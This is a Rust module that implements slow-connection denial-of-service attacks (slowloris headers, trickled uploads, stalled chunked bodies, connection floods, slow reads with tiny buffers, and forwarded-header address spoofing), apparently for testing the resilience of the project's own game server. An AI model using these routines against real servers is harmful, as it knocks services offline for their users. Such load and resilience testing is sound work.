//! Attacks by connections that send slowly, read slowly or do nothing.

use std::io;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::attack::Target;
use crate::client::{Ask, Client, connect, forwarded};

/// A receive buffer as small as the system gives.
const SMALL_BUFFER: u32 = 2048;

/// Connects and sends a text. Attackers whom the server does not let in wait a moment.
async fn enter(target: &Target, source: Ipv4Addr, buffer: Option<u32>, text: &[u8]) -> io::Result<TcpStream> {
    let entered = async {
        let mut stream = connect(target.server, source, buffer).await?;
        stream.write_all(text).await?;
        Ok(stream)
    };
    let stream = entered.await;
    match &stream {
        Ok(_) => target.count_sent(text.len() as u64),
        Err(_) => turned_away(target).await,
    }
    stream
}

/// Counts a refusal, and waits a moment before the next attempt.
async fn turned_away(target: &Target) {
    target.count(false);
    tokio::time::sleep(Duration::from_millis(100)).await;
}

/// Keeps a connection until the server closes it.
async fn hold(target: &Target, mut stream: TcpStream) {
    target.count(true);
    let _ = tokio::io::copy(&mut stream, &mut tokio::io::sink()).await;
    turned_away(target).await;
}

/// The head of a request, with more headers, each with its end of line.
fn head(target: &Target, source: Ipv4Addr, line: &str, more: &str) -> String {
    let forwarded = forwarded(source).map(|(name, value)| format!("{name}: {value}\r\n")).unwrap_or_default();
    let host = target.server;
    format!("{line} HTTP/1.1\r\nHost: {host}\r\n{forwarded}Content-Type: application/json\r\n{more}\r\n")
}

/// Uploads of unknown length that stop shortly before their end.
pub async fn stalled_chunks(target: Target) {
    const SIZE: usize = 1_000_000;
    let body: Arc<str> = format!("{SIZE:x}\r\n{}", " ".repeat(SIZE - 1)).into();
    let attack = |target: Target, _, source| {
        let body = Arc::clone(&body);
        async move {
            let head = head(&target, source, "POST /api/v1/matches", "Transfer-Encoding: chunked\r\n");
            loop {
                let Ok(mut stream) = enter(&target, source, None, head.as_bytes()).await else { continue };
                if stream.write_all(body.as_bytes()).await.is_ok() {
                    target.count_sent(body.len() as u64);
                }
                hold(&target, stream).await;
            }
        }
    };
    target.each(2500, attack).await;
}

/// Large uploads, a byte a second.
pub async fn slow_uploads(target: Target) {
    let attack = |target: Target, _, source| async move {
        let head = head(&target, source, "POST /api/v1/matches", "Content-Length: 1000000\r\n");
        loop {
            let Ok(mut stream) = enter(&target, source, None, head.as_bytes()).await else { continue };
            target.count(true);
            let mut answer = [0; 512];
            // The answer or the end of the connection ends the upload.
            while tokio::time::timeout(Duration::from_secs(1), stream.read(&mut answer)).await.is_err() {
                target.count_sent(1);
                if stream.write_all(b" ").await.is_err() {
                    break;
                }
            }
            turned_away(&target).await;
        }
    };
    target.each(64, attack).await;
}

/// More connections than a server takes, each with the beginning of a request. Without a byte, the
/// system would lose connections that the server is slow to accept, and not try again.
pub async fn connections(target: Target) {
    const MOST: usize = 18_000;
    let attack = |target: Target, _, source| async move {
        loop {
            if let Ok(stream) = enter(&target, source, None, b"GET / HTTP/1.1\r\n").await {
                hold(&target, stream).await;
            }
        }
    };
    target.each(MOST, attack).await;
}

/// Requests for large pages that nobody reads, several on each connection.
pub async fn unread_pages(target: Target) {
    let attack = |target: Target, _, source| async move {
        let one = head(&target, source, "GET /api/openapi.json", "");
        let text = one.repeat(20);
        loop {
            let Ok(stream) = enter(&target, source, Some(SMALL_BUFFER), text.as_bytes()).await else { continue };
            target.count(true);
            // A server that gives up resets the connection; reading would spoil the attack.
            while stream.take_error().is_ok_and(|error| error.is_none()) {
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
            turned_away(&target).await;
        }
    };
    target.each(4000, attack).await;
}

/// Streams of a match that others play.
pub async fn listeners(target: Target) {
    let attack = |target: Target, _, source| async move {
        let text = head(&target, source, &format!("GET /events?m={}", target.watched), "");
        loop {
            let Ok(mut stream) = enter(&target, source, Some(SMALL_BUFFER), text.as_bytes()).await else { continue };
            let mut answer = [0; 15];
            let is_open = stream.read_exact(&mut answer).await.is_ok() && answer.ends_with(b" 200 OK");
            if is_open {
                hold(&target, stream).await;
            } else {
                turned_away(&target).await;
            }
        }
    };
    target.each(400, attack).await;
}

/// Requests for a long record that nobody reads.
pub async fn unread_records(target: Target) {
    let room = " ".repeat(1_000_000);
    let record = format!("[Game \"tic-tac-toe\"]{room}[Alice \"4*\"] [Bob \"4\"] 1. 1*-1 Alice b2");
    let wanted = serde_json::json!({ "record": record });
    let mut client = Client::new(target.server, Ipv4Addr::new(127, 0, 3, 1));
    let kept = client.ask(Ask::post("/api/v1/records", wanted)).await.expect("an answer");
    let id: Arc<str> = kept.json()["id"].as_str().unwrap_or_else(|| panic!("{}", kept.json())).into();
    let attack = |target: Target, _, source| {
        let id = Arc::clone(&id);
        async move {
            let text = head(&target, source, &format!("GET /api/v1/records/{id}"), "");
            loop {
                let Ok(stream) = enter(&target, source, Some(SMALL_BUFFER), text.as_bytes()).await else { continue };
                trickle(&target, stream).await;
            }
        }
    };
    target.each(1000, attack).await;
}

/// Reads a byte now and then.
async fn trickle(target: &Target, mut stream: TcpStream) {
    let mut answer = [0; 15];
    let is_open = stream.read_exact(&mut answer).await.is_ok() && answer.ends_with(b" 200 OK");
    target.count(is_open);
    while is_open && stream.read_exact(&mut answer[..1]).await.is_ok() {
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    turned_away(target).await;
}

/// As many connections as a server takes, each with a long head that does not end: some with more
/// than a server reads, and some with a little less, which it has to keep.
pub async fn unfinished_heads(target: Target) {
    const MOST: usize = 16_000;
    let attack = |target: Target, number: usize, source| async move {
        let length = if number.is_multiple_of(2) { 60 << 10 } else { 15 << 10 };
        let text = format!("GET / HTTP/1.1\r\nHost: localhost\r\nX-Long: {}", "x".repeat(length));
        loop {
            if let Ok(stream) = enter(&target, source, None, text.as_bytes()).await {
                hold(&target, stream).await;
            }
        }
    };
    target.each(MOST, attack).await;
}
